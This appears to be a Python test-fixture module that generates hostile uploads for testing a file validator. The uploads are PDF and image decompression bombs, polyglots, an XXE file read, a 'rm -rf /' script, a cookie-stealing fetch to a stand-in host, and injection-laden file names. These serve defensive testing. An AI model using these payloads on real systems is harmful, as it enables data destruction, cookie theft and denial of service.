"""A bag of hostile files, made here: what is handed in by mistake or on purpose and must not come in."""

import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from PIL import Image

from .samples import picture

Name, Dictionary, Array = pikepdf.Name, pikepdf.Dictionary, pikepdf.Array
AS_IT_IS: dict[str, Any] = {"compress_streams": False, "stream_decode_level": pikepdf.StreamDecodeLevel.none}


def pdf(change: Callable[[pikepdf.Pdf], None] = lambda _pdf: None, pages: int = 1, **options: Any) -> bytes:
    """A PDF of blank pages, changed by the test."""
    content = io.BytesIO()
    with pikepdf.new() as made:
        for _page in range(pages):
            made.add_blank_page()
        change(made)
        made.save(content, **options)
    return content.getvalue()


def zipped() -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        archive.writestr("evil.js", "alert(1)")
    return content.getvalue()


def tarred() -> bytes:
    content = io.BytesIO()
    with tarfile.open(fileobj=content, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("../../etc/passwd"))
    return content.getvalue()


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_of(width: int, height: int) -> bytes:
    """A PNG that declares a size; its pixels are a few bytes."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0" * 100))
        + chunk(b"IEND", b"")
    )


def jpeg_of(width: int, height: int) -> bytes:
    """A JPEG whose frame declares another size than its pixels have."""
    small = picture()
    frame = small.index(b"\xff\xc0")
    return small[: frame + 5] + struct.pack(">HH", height, width) + small[frame + 9 :]


def object_stream_bomb(name: bytes = b"ObjStm", filters: bytes = b"/FlateDecode") -> bytes:
    packed = zlib.compress(b"0" * 40_000_000, 1)
    return (
        b"%PDF-1.5\n1 0 obj\n<</Type /" + name + b"/N 1/First 4/Filter " + filters
        + b"/Length %d>>stream\n" % len(packed) + packed + b"\nendstream\nendobj\nstartxref\n0\n%%EOF\n"
    )  # fmt: skip


def page_packed(packed: bytes, *filters: pikepdf.Name) -> bytes:
    """A page whose drawing is packed so."""

    def swell(made: pikepdf.Pdf) -> None:
        stream = pikepdf.Stream(made, b"")
        stream.write(packed, filter=Array(list(filters)))
        made.pages[0].Contents = stream

    return pdf(swell, **AS_IT_IS)


def with_image(packed: bytes, packing: pikepdf.Name, width: int = 10, height: int = 10) -> bytes:
    """A page with a picture that declares a size."""

    def put(made: pikepdf.Pdf) -> None:
        image = pikepdf.Stream(made, b"", Type=Name.XObject, Subtype=Name.Image, Width=width, Height=height,
                               BitsPerComponent=8, ColorSpace=Name.DeviceGray)  # fmt: skip
        image.write(packed, filter=packing)
        made.pages[0].Resources = Dictionary(XObject=Dictionary(Im0=made.make_indirect(image)))

    return pdf(put, **AS_IT_IS)


def flate(size: int) -> bytes:
    return zlib.compress(b" " * size, 1)


def moving() -> bytes:
    content = io.BytesIO()
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("white", "black")]
    frames[0].save(content, "PNG", save_all=True, append_images=frames[1:])
    return content.getvalue()


def many_objects(made: pikepdf.Pdf) -> None:
    made.Root.Kept = Array([made.make_indirect(Dictionary(N=number)) for number in range(100_001)])


def page_in_its_head() -> bytes:
    return b"%PDF-1.4\n%<html><script>\n" + pdf()[9:]


def hexed(content: bytes) -> bytes:
    return content.hex().encode() + b">"


LOCKED = pikepdf.Encryption(owner="owner", user="user")
OPEN_BUT_ENCRYPTED = pikepdf.Encryption(owner="owner", user="")
FLATE = Name.FlateDecode
HOSTILE: dict[str, Callable[[], bytes]] = {
    "empty": lambda: b"",
    "one byte": lambda: b"%",
    "text": lambda: b"just words",
    "page named .pdf": lambda: b"<!doctype html><script>alert(1)</script>",
    "page in UTF-16": lambda: "<!doctype html><script>alert(1)</script>".encode("utf-16"),
    "svg": lambda: b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>",
    "xml with an entity": lambda: b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    "rich text": lambda: b"{\\rtf1\\ansi{\\object\\objemb}}",
    "shell script": lambda: b"#!/bin/sh\nrm -rf /\n",
    "script of a browser": lambda: b"fetch('https://example.org/'+document.cookie)",
    "letter": lambda: b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
    "gif": lambda: picture("GIF"),
    "tiff": lambda: picture("TIFF"),
    "webp": lambda: picture("WEBP"),
    "bmp": lambda: picture("BMP"),
    "icon": lambda: picture("ICO"),
    "JPEG 2000": lambda: picture("JPEG2000"),
    "program": lambda: b"MZ\x90\x00\x03\x00\x00\x00",
    "program of Linux": lambda: b"\x7fELF\x02\x01\x01" + b"\0" * 60,
    "program of Java": lambda: b"\xca\xfe\xba\xbe\x00\x00\x00\x34",
    "shortcut": lambda: b"L\x00\x00\x00\x01\x14\x02\x00" + b"\0" * 60,
    "archive": zipped,
    "archive gz": lambda: gzip.compress(b"evil"),
    "archive tar": tarred,
    "archive 7z": lambda: b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\0" * 60,
    "archive rar": lambda: b"Rar!\x1a\x07\x01\x00" + b"\0" * 60,
    "office document": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "postscript": lambda: b"%!PS-Adobe-3.0\nshowpage\n",
    "film": lambda: b"\0\0\0\x18ftypmp42" + b"\0" * 60,
    "words before the PDF": lambda: b"GIF89a" + pdf(),
    "mark of byte order before the PDF": lambda: b"\xef\xbb\xbf" + pdf(),
    "PDF header only": lambda: b"%PDF-1.7\n",
    "PDF header and end": lambda: b"%PDF-1.7\n%%EOF\n",
    "PDF cut in half": lambda: pdf()[: len(pdf()) // 2],
    "PDF without its table": lambda: pdf().replace(b"startxref", b"startxxxx"),
    "PDF whose table leads nowhere": lambda: pdf().replace(b"startxref\n", b"startxref\n9999"),
    "PDF without its root": lambda: pdf().replace(b"/Root", b"/Toor"),
    "PDF with an archive behind": lambda: pdf() + zipped(),
    "PDF with words behind": lambda: pdf() + b"<script>alert(1)</script>",
    "PDF with a program in its head": lambda: b"%PDF-1.4\n%MZ\x90\x00\n" + pdf()[9:],
    "PDF with a page in its head": page_in_its_head,
    "PDF without pages": lambda: pdf(pages=0),
    "PDF with 201 pages": lambda: pdf(pages=201),
    "PDF with a hundred thousand objects": lambda: pdf(many_objects),
    "PDF locked": lambda: pdf(encryption=LOCKED),
    "PDF encrypted, opens without a password": lambda: pdf(encryption=OPEN_BUT_ENCRYPTED),
    "PDF with a bomb for a table": object_stream_bomb,
    "PDF with a bomb, the name spelt in hex": lambda: object_stream_bomb(b"O#62jStm"),
    "PDF with a bomb packed twice": lambda: object_stream_bomb(filters=b"[/ASCIIHexDecode/FlateDecode]"),
    "PDF with a bomb for a page": lambda: page_packed(flate(140_000_000), FLATE),
    "PDF packed twice": lambda: page_packed(zlib.compress(flate(1_000_000)), FLATE, FLATE),
    "PDF with a bomb spelt in letters": lambda: page_packed(hexed(flate(140_000_000)), Name.ASCIIHexDecode, FLATE),
    "PDF with a bomb of runs": lambda: page_packed(b"\x81 " * 1_500_000, Name.RunLengthDecode),
    "PDF with a bomb of the old packing": lambda: page_packed(b"\x80" * 100_000, Name.LZWDecode),
    "PDF with a picture of ten gigapixels": lambda: with_image(flate(1000), FLATE, 100_000, 100_000),
    "PDF with a bomb that says it is a picture": lambda: with_image(flate(245_000_000), FLATE),
    "PDF with a JPEG larger than it says": lambda: with_image(jpeg_of(60_000, 60_000), Name.DCTDecode),
    "PDF with no JPEG where it says one": lambda: with_image(b"just words", Name.DCTDecode),
    "JPEG header only": lambda: b"\xff\xd8\xff\xe0",
    "JPEG cut off": lambda: picture(size=(500, 500))[:400],
    "JPEG cut off in its pixels": lambda: picture(size=(500, 500))[:-200],
    "JPEG of three gigapixels": lambda: jpeg_of(60_000, 60_000),
    "JPEG with an archive behind": lambda: picture() + zipped(),
    "JPEG with a page in its comment": lambda: picture(comment=b"<script>alert(1)</script>"),
    "JPEG that is a PDF too": lambda: picture(comment=b"%PDF-1.4 1 0 obj"),
    "PNG header only": lambda: b"\x89PNG\r\n\x1a\n",
    "PNG cut off": lambda: picture("PNG", (300, 300))[:90],
    "PNG with a wrong sum": lambda: picture("PNG").replace(b"IDAT", b"IDAX"),
    "PNG of ten gigapixels": lambda: png_of(100_000, 100_000),
    "PNG of seventy megapixels": lambda: png_of(10_000, 7_000),
    "PNG without pixels": lambda: png_of(0, 0),
    "PNG whose pixels are missing": lambda: png_of(3_000, 3_000),
    "PNG that moves": moving,
    "PNG with an archive behind": lambda: picture("PNG") + zipped(),
}  # fmt: skip
# Each is handed in under one of these names, in turn: none of them is anything but a label.
NAMES = (
    "scan.pdf", "../../etc/passwd.pdf", "..\\..\\boot.ini.png", "/etc/cron.d/evil.jpg", "scan.pdf.exe", "CON.pdf",
    "scan\u202efdp.exe", "<img src=x onerror=alert(1)>.jpg", "a" * 300 + ".pdf", "%2e%2e%2fevil.pdf", ".htaccess",
    "скан;rm -rf ~.pdf", "", "'; DROP TABLE case; --.png", "scan.pdf ", "{{7*7}}.pdf",
)  # fmt: skip
